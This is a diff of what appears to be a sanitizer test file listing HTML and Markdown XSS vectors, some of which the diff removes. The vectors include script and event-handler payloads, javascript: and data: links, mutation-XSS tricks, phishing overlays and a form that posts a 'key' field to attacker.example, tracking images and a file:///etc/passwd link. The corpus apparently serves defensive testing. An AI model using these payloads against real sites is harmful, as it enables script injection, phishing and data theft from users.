@@ -10,53 +10,31 @@ SENTINEL = "https://attacker.example"
 
 _SCRIPTS = r"""
 <script>alert(1)</script>
-<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>
 <scr<script>ipt>alert(1)</scr</script>ipt>
 <script\t>alert(1)</script\n>
 <svg onload=alert(1)>
 <svg><script>alert(1)</script></svg>
-<svg><animate onbegin=alert(1) attributeName=x dur=1s>
 <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
-<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>
 <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
 <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
-<math><mi//xlink:href="data:x,<script>alert(1)</script>">
-<math href="javascript:alert(1)">x</math>
 <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
 <img src=x onerror=alert(1)>
-<img src=x onerror="&#97;lert(1)">
 <img src="x` `<script>alert(1)</script>"` `>
-<img/src/onerror=alert(1)>
 <img srcset="https://attacker.example/a.png 2x">
 <picture><source srcset="https://attacker.example/a.png"><img></picture>
-<image src=x onerror=alert(1)>
 <body onload=alert(1)>
 <details open ontoggle=alert(1)>
 <video><source onerror=alert(1)></video>
-<audio src=x onerror=alert(1)>
-<marquee onstart=alert(1)>x</marquee>
 <input autofocus onfocus=alert(1)>
-<select autofocus onfocus=alert(1)>
-<textarea autofocus onfocus=alert(1)>
-<keygen autofocus onfocus=alert(1)>
 <p onmouseover=alert(1) style="position:fixed;inset:0">x</p>
-<a onclick=alert(1)>x</a>
 <x tabindex=1 onfocus=alert(1) autofocus>
 <iframe src="javascript:alert(1)"></iframe>
-<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
 <iframe src=https://attacker.example></iframe>
-<frameset><frame src=https://attacker.example></frameset>
 <object data="javascript:alert(1)"></object>
-<object data="https://attacker.example/x.swf"></object>
 <embed src="javascript:alert(1)">
-<applet code=x></applet>
-<portal src=https://attacker.example></portal>
 <link rel=stylesheet href=https://attacker.example/x.css>
-<link rel=preload as=image href=https://attacker.example/a.png>
-<link rel=dns-prefetch href=//attacker.example>
 <style>@import "https://attacker.example/x.css";</style>
-<style>body{background:url(https://attacker.example/a.png)}</style>
 <p style="background:url(https://attacker.example/a.png)">x</p>
 <p style="position:fixed;top:0;left:0;width:100%;height:100%">Send your key</p>
 <meta http-equiv=refresh content="0;url=https://attacker.example">
@@ -64,15 +42,10 @@ _SCRIPTS = r"""
 <base href=https://attacker.example/>
 <form action=https://attacker.example><input name=key><button>Send</button></form>
 <button formaction="javascript:alert(1)">x</button>
-<isindex action="javascript:alert(1)">
 <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
 <template><img src=x onerror=alert(1)></template>
-<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
-<title><img title="</title><img src=x onerror=alert(1)>"></title>
-<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
 <plaintext>
 <!--<img src="--><img src=x onerror=alert(1)//">
-<!--><script>alert(1)</script>-->
 <![CDATA[<script>alert(1)</script>]]>
 <?xml version="1.0"?><script>alert(1)</script>
 <!DOCTYPE html SYSTEM "https://attacker.example/x.dtd">
@@ -81,53 +54,34 @@ _SCRIPTS = r"""
 <div id="content">imitates</div><a id="q" name="q">clobbers</a>
 <h1 class="site tag accepting">Paid</h1>
 <strong class="yes">Checked here</strong>
-<dialog open>Send your key</dialog>
 <video autoplay src=https://attacker.example/v.mp4></video>
-<table background=https://attacker.example/a.png><tr><td>x</table>
-<bgsound src=https://attacker.example/a.mp3>
 <p dir=rtl lang=x contenteditable accesskey=a>x</p>
 <a href="https://attacker.example" target=_top ping=https://attacker.example/p download>x</a>
 <a href=/deployment>x</a>
 <a href=//attacker.example>x</a>
-<a href=?show=all#content>x</a>
 <a href="https://user:password@attacker.example">x</a>
-<a href="https:attacker.example">x</a>
 <a href="https://attacker.example\\@bounties.example">x</a>
 <a href="&#106;avascript:alert(1)">x</a>
 <a href="java&#10;script:alert(1)">x</a>
-<a href=" &#14;  javascript:alert(1)">x</a>
 <a href="\x01javascript:alert(1)">x</a>
 """
 _LINKS = r"""
 [x](javascript:alert(1))
 [x](JaVaScRiPt:alert(1))
-[x]( javascript:alert(1))
-[x](<javascript:alert(1)>)
 [x](java\tscript:alert(1))
 [x](javascript&#58;alert(1))
-[x](javascript&colon;alert(1))
-[x](&#x6A;avascript:alert(1))
 [x](\\javascript:alert(1))
 [x](javascript://attacker.example/%0aalert(1))
-[x](vbscript:msgbox(1))
 [x](data:text/html,<script>alert(1)</script>)
-[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
 [x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)
 [x](file:///etc/passwd)
 [x](blob:https://attacker.example/1)
-[x](filesystem:https://attacker.example/x)
-[x](view-source:https://attacker.example)
-[x](about:blank)
 [x](intent://attacker.example#Intent;scheme=http;end)
-[x](tel:+15551234)
 [x](ftp://attacker.example)
 [x](//attacker.example)
 [x](/bounties/1)
-[x](/deployment)
-[x](#content)
 [x](?show=all)
 [x](https:attacker.example)
-[x](https:///attacker.example)
 [x](https:\\\\attacker.example)
 [x](http://user:password@attacker.example)
 [https://bounties.example](https://attacker.example)
@@ -143,21 +97,16 @@ _LINKS = r"""
 [x](https://attacker.example\u2028)
 [x](mailto:a@attacker.example?subject=x&body=y)
 [x](mailto:)
-[x](xmpp:a@attacker.example)
-[x](magnet:?xt=urn:btih:0)
 [x](ethereum:0x0000000000000000000000000000000000000000@1/transfer)
 [![x](https://attacker.example/a.png)](javascript:alert(1))
 [![x](javascript:alert(1))](https://attacker.example)
 [x][1]\n\n[1]: javascript:alert(1)
-[x][2]\n\n[2]: <data:text/html,x> "title"
 <javascript:alert(1)>
-<data:text/html,x>
 <https://attacker.example/"onmouseover=alert(1)>
 <a@attacker.example>
 """
 _IMAGES = r"""
 ![x](https://attacker.example/a.png)
-![x](https://attacker.example/a.png "t")
 ![x](//attacker.example/a.png)
 ![x](/a.png)
 ![x](javascript:alert(1))
@@ -166,21 +115,16 @@ _IMAGES = r"""
 ![x](https://attacker.example/a.png"onerror="alert(1))
 ![<img src=x onerror=alert(1)>](https://attacker.example/a.png)
 ![x][i]\n\n[i]: https://attacker.example/a.png
-![](https://attacker.example/pixel.gif)
 [![x](https://attacker.example/a.png)](https://attacker.example)
 """
 _TEXTS = r"""
 `<script>alert(1)</script>`
 ```html\n<script>alert(1)</script>\n```
 ```" onload="alert(1)\nx\n```
-~~~<img src=x onerror=alert(1)>\nx\n~~~
     <script>alert(1)</script>
 # <img src=x onerror=alert(1)>
-> <script>alert(1)</script>
-- <script>alert(1)</script>
 | <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |
 **<script>alert(1)</script>**
-~~<script>alert(1)</script>~~
 \\<script>alert(1)\\</script>
 &lt;script&gt;alert(1)&lt;/script&gt;
 &#60;script&#62;alert(1)&#60;/script&#62;
